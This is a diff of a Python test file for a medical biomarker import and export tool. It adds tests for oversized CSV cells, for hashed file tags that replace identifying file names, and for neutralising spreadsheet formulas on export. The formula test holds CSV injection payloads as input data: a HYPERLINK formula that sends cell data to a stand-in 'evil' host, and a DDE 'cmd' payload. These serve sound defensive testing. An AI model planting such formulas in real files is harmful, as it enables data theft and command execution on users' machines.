@@ -12,6 +12,7 @@ from mmstream.biomarkers import BiomarkerStore, parse_record, read_records, to_c
 from mmstream.biomarkers.store import MIGRATIONS, SCHEMA_VERSION
 from mmstream.cli import main
 from mmstream.errors import InputError, ReadError, StoreError
+from mmstream.privacy import file_tag
 
 ROW = {"patient_id": "P1", "site": "tibialis_anterior", "side": "left", "modality": "MRI", "biomarker": "fat_fraction",
        "value": 0.3, "unit": "1", "acquired_on": "2026-01-02"}  # fmt: skip
@@ -138,7 +139,7 @@ def test_csv_bad_rows_are_reported_by_line_and_good_rows_kept(tmp_path):
     assert [r.reason for r in res.errors] == ["unknown_unit", "invalid_record", "invalid_record", "invalid_record"]
     assert res.lines == [2, 8]
     assert [r.value for r in res.records] == [pytest.approx(0.2), pytest.approx(39.0)]
-    assert all(r.source_file == "m.csv" and r.source_sha256 == res.sha256 for r in res.records)
+    assert all(r.source_file == file_tag("m.csv") and r.source_sha256 == res.sha256 for r in res.records)  # never the name
 
 
 def test_json_and_jsonl_bad_rows_are_reported_by_line(tmp_path):
@@ -248,3 +249,69 @@ def test_the_example_file_is_a_format_not_data(tmp_path, capsys):
     assert not r.records and r.errors and {e.reason for e in r.errors} == {"example_row"}
     assert main(["biomarkers", "import", "--db", str(tmp_path / "b.db"), str(example)]) == 1
     assert "0 added" in capsys.readouterr().out
+
+
+def test_a_cell_over_the_csv_field_limit_costs_only_its_row(tmp_path, capsys):
+    """A cell over csv.field_size_limit (131072 characters) used to end the reading: the 5 valid
+    rows after it were lost and not counted. Now that row is refused with its line, the rest kept."""
+    rows = [f"P1,soleus,left,MRI,fat_fraction,0.2,1,2026-01-{d:02d},,ok\n" for d in range(1, 4)]
+    long = 'P1,soleus,left,MRI,fat_fraction,0.2,1,2026-02-01,,"' + "x" * 140000 + '"\n'
+    more = [f"P1,soleus,left,MRI,fat_fraction,0.3,1,2026-03-{d:02d},,ok\n" for d in range(1, 6)]
+    f = tmp_path / "long.csv"
+    f.write_text(HEADER.replace("tracer", "tracer,method") + "".join(rows) + long + "".join(more))
+    res = read_records(f)
+    assert [(e.line, e.reason, e.message) for e in res.errors] == [(5, "invalid_record", "method: over 4096 characters")]
+    assert res.lines == [2, 3, 4, 6, 7, 8, 9, 10]
+    import csv
+
+    assert csv.field_size_limit() == 131072  # the process-wide limit is left as it was
+    assert main(["biomarkers", "import", str(f), "--db", str(tmp_path / "b.db")]) == 1
+    assert "long.csv: 8 added, 0 duplicate, 0 conflict, 1 invalid" in capsys.readouterr().out
+
+
+def test_csv_export_neutralises_formulas_and_reimports_exactly(tmp_path, capsys):
+    """Text cells starting with = + - @, tab or CR are written with a leading ' (OWASP CSV
+    injection: a spreadsheet would run =HYPERLINK(...)); numbers stay numbers (a negative QSM value
+    is not text); importing the export gives back the stored text exactly (a stored text that
+    starts with ' before such a character gets one more)."""
+    db, f = tmp_path / "b.db", tmp_path / "in.csv"
+    f.write_text("patient_id,site,side,modality,biomarker,value,unit,acquired_on,tracer,method\n"
+                 'P1,biceps_brachii,left,MRI,fat_fraction,0.3,1,2026-01-01,,"=HYPERLINK(""http://evil/?""&A2;""x"")"\n'
+                 "P1,biceps_brachii,right,PET,pet_suv_mean,1.2,g/mL,2026-01-01,+cmd|' /C calc'!A0,@SUM(1+1)\n"
+                 'P1,soleus,right,MRI,fat_fraction,0.2,1,2026-01-01,,"\tTAB"\n')  # fmt: skip
+    qsm = {**ROW, "site": "soleus", "biomarker": "qsm_susceptibility_ppm", "value": -0.02, "unit": "ppm",
+           "method": "'=already quoted"}  # fmt: skip
+    (tmp_path / "q.jsonl").write_text(json.dumps(qsm) + "\n")
+    assert main(["biomarkers", "import", str(f), str(tmp_path / "q.jsonl"), "--db", str(db)]) == 0
+    out = tmp_path / "out.csv"
+    assert main(["biomarkers", "export", "--db", str(db), "-o", str(out)]) == 0
+    import csv
+
+    with open(out, newline="") as fh:
+        cells = [c for row in csv.reader(fh) for c in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and c != "-0.02")]
+    assert {"'=HYPERLINK(\"http://evil/?\"&A2;\"x\")", "'+cmd|' /C calc'!A0", "'@SUM(1+1)", "''=already quoted", "'\tTAB",
+            "-0.02"} <= set(cells)  # fmt: skip
+    with BiomarkerStore(tmp_path / "copy.db") as s:
+        r = read_records(out)
+        assert not r.errors and s.add(r.records).added == 4
+        assert s.query() == BiomarkerStore(db).query()
+        assert {x.method for x in s.query()} >= {"=HYPERLINK(\"http://evil/?\"&A2;\"x\")", "'=already quoted", "\tTAB"}
+
+
+def test_import_stores_file_tags_never_file_names(tmp_path):
+    """The import's own file name and a source_file named in a row are stored as tags; a tag (an
+    export's) is kept; stores written before, with names, read as before."""
+    from mmstream.privacy import file_tag
+
+    f = tmp_path / "Doe_Jane_19610203.csv"
+    f.write_text("patient_id,site,side,modality,biomarker,value,unit,acquired_on,source_file\n"
+                 "P1,soleus,left,MRI,fat_fraction,0.2,1,2026-01-01,\n"
+                 "P1,soleus,right,MRI,fat_fraction,0.2,1,2026-01-01,Doe_John/t2.nii\n"
+                 "P1,tibialis_anterior,right,MRI,fat_fraction,0.2,1,2026-01-01,<file 0123abcd>\n")  # fmt: skip
+    assert [r.source_file for r in read_records(f).records] == [file_tag(f), file_tag("t2.nii"), "<file 0123abcd>"]
+    assert main(["biomarkers", "import", str(f), "--db", str(tmp_path / "b.db")]) == 0
+    with BiomarkerStore(tmp_path / "b.db") as s:
+        assert s._db.execute("SELECT source_file FROM imports").fetchall() == [(file_tag(f),)]
+        s._db.execute("UPDATE biomarkers SET source_file = 'Doe_Jane.csv' WHERE side = 'left'")  # an older store
+        assert {r.source_file for r in s.query()} == {"Doe_Jane.csv", file_tag("t2.nii"), "<file 0123abcd>"}
